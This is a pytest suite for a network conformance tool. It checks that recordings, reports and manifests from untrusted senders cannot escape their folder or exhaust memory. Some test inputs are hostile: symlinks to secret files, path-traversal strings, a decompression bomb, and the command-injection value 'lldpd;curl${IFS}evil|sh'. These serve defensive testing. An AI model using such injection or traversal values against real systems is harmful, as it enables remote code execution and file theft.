"""Files of others: read inside their folder, where they are files, up to a size; whatever else is there is one line."""

from __future__ import annotations

import base64
import json
import os
import shutil
import time
import tracemalloc
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from conformance import files, testbed
from conformance.attest import compare, manifest
from conformance.commands.badges import write_badges
from conformance.commands.matrix import write_page
from conformance.errors import UsageError
from conformance.places import PROFILES
from conformance.recording.model import Matrix
from conformance.recording.store import FRAMES, LOGS, RECORD, load
from conformance.report import store
from conformance.running.memory import MEMORY, recall
from conformance.testing import recording
from conformance.validation import table

SECRET = "nobody but the owner of this machine reads that\n"
PUBLISHED = next((Path(__file__).parents[2] / "reports" / "nat-bridge").glob("*/report.json"))


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of the machine that no input names rightly."""
    place = tmp_path / "machine" / "secret"
    place.parent.mkdir()
    place.write_text(SECRET)
    return place


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A recording as a stranger sends it."""
    made = recording()
    place = tmp_path / "theirs" / "recordings" / "same-subnet-reachability-1"
    (place / LOGS).mkdir(parents=True)
    assert isinstance(made.capture, bytes)
    (place / FRAMES).write_bytes(made.capture)
    (place / RECORD).write_text(made.record.model_dump_json(by_alias=True))
    return place


def edit(file: Path, change: Callable[[dict[str, Any]], object]) -> None:
    data = json.loads(file.read_text())
    change(data)
    file.write_text(json.dumps(data))


def test_a_recording_is_loaded(folder: Path) -> None:
    assert load(folder).damage is None


@pytest.mark.parametrize("name", [RECORD, FRAMES, f"{LOGS}/x.log", "further"])
def test_a_link_out_of_a_recording_is_refused(name: str, folder: Path, secret: Path) -> None:
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(secret)
    with pytest.raises(UsageError, match="leads out of its folder"):
        load(folder)


@pytest.mark.parametrize("name", [RECORD, FRAMES, f"{LOGS}/x.log"])
@pytest.mark.parametrize("kind", ["fifo", "folder", "device", "link to a folder"])
def test_what_is_no_file_is_refused(name: str, kind: str, folder: Path, tmp_path: Path) -> None:
    place = folder / name
    place.unlink(missing_ok=True)
    if kind == "fifo":
        os.mkfifo(place)
    elif kind == "folder":
        place.mkdir()
        if name.startswith(LOGS):
            return
    elif kind == "device":
        place.symlink_to("/dev/zero")
    else:
        place.symlink_to(tmp_path)
    with pytest.raises(UsageError) as said:
        load(folder)
    assert len(str(said.value).splitlines()) == 1


def test_a_link_inside_is_a_file(folder: Path) -> None:
    (folder / LOGS / "real.log").write_text("x")
    (folder / LOGS / "x.log").symlink_to("real.log")
    load(folder)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda data: data.update(attempt=0), "attempt"),
        (lambda data: data.update(attempt=-5), "attempt"),
        (lambda data: data.update(attempt=100_000), "attempt"),
        (lambda data: data.update(started_ns=10**30), "more than 19 digits"),
        (lambda data: data.update(started_ns="1" * 30), "started_ns"),
    ],
)
def test_numbers_have_a_size(change: Callable[[dict[str, Any]], object], words: str, folder: Path) -> None:
    edit(folder / RECORD, change)
    with pytest.raises(UsageError, match=words):
        load(folder)


@pytest.mark.parametrize("number", [-1, 1, 99, 10**18])
def test_a_tap_that_the_capture_does_not_have_is_damage(number: int, folder: Path) -> None:
    tap = {"name": "a", "where": "a", "interface": "b", "role": "uplink", "captured": 0, "dropped": 0}
    edit(folder / RECORD, lambda data: data.update(taps=[{**tap, "number": number}]))
    assert load(folder).damage is not None


def test_a_record_of_any_depth_is_one_line(folder: Path) -> None:
    (folder / RECORD).write_text("[" * 1_000_000)
    with pytest.raises(UsageError):
        load(folder)


def test_a_table_is_no_larger_than_its_names(folder: Path) -> None:
    bomb = base64.b64encode(zlib.compress(bytes(1 << 28))).decode()
    names = ("a", "b")
    made = Matrix(
        purpose="p", family="ipv4", protocols=("tcp",), ports=(1,), names=names, addresses=names,
        tables={"answered": bomb}, start_ns=0, end_ns=1,
    )  # fmt: skip
    edit(folder / RECORD, lambda data: data.update(matrices=[made.model_dump(mode="json")]))
    began = time.process_time()
    assert "does not have the 1 bytes of 4 cells" in str(load(folder).damage)
    many = made.model_copy(update={"names": tuple(map(str, range(100_000)))})
    edit(folder / RECORD, lambda data: data.update(matrices=[many.model_dump(mode="json")]))
    assert "at most" in str(load(folder).damage)
    assert time.process_time() - began < 5


# --- reports and manifests ----------------------------------------------------------------------------------------
@pytest.fixture
def theirs(folder: Path) -> Path:
    """A report of theirs whose evidence names that recording."""
    data = json.loads(PUBLISHED.read_text())
    evidence = {"recording": "recordings/same-subnet-reachability-1", "frames": [1], "lines": ["1 x"], "times": [1]}
    failing = next(one for one in data["outcomes"] if one["verdict"] == "fail")
    for each in (failing, failing["attempts"][0]):
        each["evidence"] = [evidence]
    place = folder.parents[1] / store.NAME
    place.write_text(json.dumps(data))
    return place


def page_of(file: Path, out: Path) -> str:
    write_page([(file, store.read(file))], out)
    return out.read_text()


def test_a_page_quotes_logs_but_nothing_of_the_machine(theirs: Path, secret: Path, tmp_path: Path) -> None:
    logs = theirs.parent / "recordings" / "same-subnet-reachability-1" / LOGS
    (logs / "x.log").write_text("error: of their own\n")
    assert "of their own" in page_of(theirs, tmp_path / "page.html")
    (logs / "x.log").unlink()
    (logs / "x.log").symlink_to(secret)
    assert SECRET.strip() not in page_of(theirs, tmp_path / "other.html")


def test_evidence_lies_beside_its_report(theirs: Path, folder: Path, tmp_path: Path) -> None:
    away = tmp_path / "machine2"
    shutil.copytree(folder, away / "recordings" / "same-subnet-reachability-1")
    (away / "recordings" / "same-subnet-reachability-1" / LOGS / "x.log").write_text(f"error {SECRET}")
    shutil.rmtree(folder)
    for place in (f"../machine2/recordings/{folder.name}", str(away / "recordings" / folder.name)):
        text = theirs.read_text().replace(f"recordings/{folder.name}", place)
        (theirs.parent / store.NAME).write_text(text)
        assert SECRET.strip() not in page_of(theirs, tmp_path / "page.html")
        theirs.write_text(text.replace(place, f"recordings/{folder.name}"))


def test_a_folder_of_reports_leads_nowhere_else(theirs: Path, tmp_path: Path) -> None:
    (tmp_path / "all").mkdir()
    (tmp_path / "all" / "theirs").symlink_to(theirs.parent)
    with pytest.raises(UsageError, match="leads out of all"):
        store.collect([tmp_path / "all"])


@pytest.mark.parametrize("path", ["../../../usr/share/recording.json", "/recording.json", "", "a/../b", "a\0b"])
def test_a_manifest_names_only_what_is_below(path: str, tmp_path: Path) -> None:
    data = json.loads((PUBLISHED.parent / manifest.NAME).read_text())
    data["recordings"] = {path: "0" * 64}
    (tmp_path / manifest.NAME).write_text(json.dumps(data))
    with pytest.raises(UsageError, match="no path below the run's folder"):
        manifest.read(tmp_path)


def test_what_a_manifest_names_is_read_only_below(folder: Path, secret: Path) -> None:
    run = folder.parents[1]
    (folder / LOGS / "x.log").symlink_to(secret)
    data = json.loads((PUBLISHED.parent / manifest.NAME).read_text())
    data["recordings"] = {f"recordings/{folder.name}/{LOGS}/x.log": manifest.sha256(secret.read_bytes())}
    (run / manifest.NAME).write_text(json.dumps(data))
    said = list(compare.recording_changes(manifest.read(run), run))
    assert said == ["logs/x.log: leads out of its folder; put the file itself there"]


@pytest.mark.parametrize("name", ["../../x", "/tmp/x", "", "a b", "a`b", "x\n", "lldpd;curl${IFS}evil|sh"])
def test_a_profile_of_a_report_is_a_name(name: str, theirs: Path, tmp_path: Path) -> None:
    edit(theirs, lambda data: data["header"].update(profile=name))
    with pytest.raises(UsageError, match=r"header\.profile"):
        write_badges([theirs], tmp_path / "badges", None)


def test_badges_of_any_version_lie_in_their_folder(theirs: Path, tmp_path: Path) -> None:
    for number, version in enumerate(("../../../a", "/tmp/b")):
        place = tmp_path / "both" / str(number)
        place.mkdir(parents=True)
        data = json.loads(theirs.read_text())
        data["header"]["implementation"]["version"] = version
        (place / store.NAME).write_text(json.dumps(data))
    write_badges([tmp_path / "both"], tmp_path / "badges", None)
    assert len(list((tmp_path / "badges").iterdir())) == 4


# --- what else is read --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        '{"only": [], "command": [1, 2]}',
        '{"only": 5, "command": []}',
        '{"only": [[]], "command": []}',
        '{"recordings": ["../x"]}',
        '{"attempts": 0}',
        "[]",
        "\xff",
    ],
)
def test_what_a_run_remembers_is_words(text: str, tmp_path: Path) -> None:
    (tmp_path / MEMORY).write_bytes(text.encode("latin-1"))
    with pytest.raises(UsageError, match="not what `plugfest run` writes"):
        recall(tmp_path)
    (tmp_path / MEMORY).unlink()
    (tmp_path / MEMORY).mkdir()
    with pytest.raises(UsageError, match="is no ordinary file"):
        recall(tmp_path)


def test_settings_have_a_size(tmp_path: Path) -> None:
    for text in ("a = 1\n" + "#" * files.SETTINGS, "a = " + "[" * 10_000):
        (tmp_path / "x.toml").write_text(text)
        with pytest.raises(UsageError) as said:
            table(tmp_path / "x.toml")
        assert len(str(said.value).splitlines()) == 1


def test_what_ships_is_read() -> None:
    assert table(PROFILES / "routed-64.toml")["name"] == "routed-64"
    assert testbed.load("same-subnet")
    with pytest.raises(ValidationError):
        testbed.Testbed.model_validate({})


def test_a_small_file_takes_no_more_memory_than_it_has(tmp_path: Path) -> None:
    file = tmp_path / "frames.pcapng"
    file.write_bytes(b"x" * 100)
    tracemalloc.start()
    try:
        assert files.content(file, tmp_path, files.CAPTURE) == b"x" * 100
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < files.MIB
